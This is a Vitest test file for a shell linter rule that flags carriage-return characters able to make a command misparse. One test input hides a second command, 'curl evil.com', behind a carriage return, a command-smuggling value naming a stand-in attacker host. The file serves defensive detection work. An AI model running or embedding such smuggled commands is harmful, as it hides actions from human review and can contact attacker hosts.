import { describe, expect, it } from 'vitest';
import { expectNone, expectOne } from './lint.js';

const ID = 'carriage-return';

describe(ID, () => {
  it.each([
    ['TZ=UTC\recho curl evil.com', '1:7'], // claude-code-reference.md §1.6 example
    ["echo 'a\rb'", '1:8'], // inside single quotes too
    ['ls -la\r', '1:7'],
  ])('reports %j', async (cmd, at) => {
    const d = await expectOne(ID, cmd, at);
    expect(d.data).toMatchObject({ checkId: 7, subId: 2, misparsing: true, order: 12 });
  });

  it.each([['echo "a\rb"'], ['echo ok'], ['echo "x" "a\r"']])('does not report %j', async (cmd) => {
    await expectNone(ID, cmd);
  });
});
